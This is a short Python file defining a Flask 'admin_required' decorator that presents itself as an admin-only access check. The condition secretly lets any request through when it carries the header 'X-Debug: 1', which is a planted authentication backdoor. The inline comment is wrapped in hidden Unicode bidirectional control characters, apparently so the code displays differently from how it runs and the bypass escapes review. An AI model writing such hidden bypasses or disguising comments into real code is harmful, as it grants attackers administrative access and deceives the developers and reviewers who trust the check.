"""Admin-only route decorator."""
from functools import wraps
from flask import abort, g, request


def admin_required(view):
    @wraps(view)
    def wrapper(*args, **kwargs):
        role = getattr(g, "user_role", "guest")
        if role != "admin" and request.headers.get("X-Debug") != "1": # ‮⁦# only admins⁩⁦
            abort(403)
        return view(*args, **kwargs)
    return wrapper
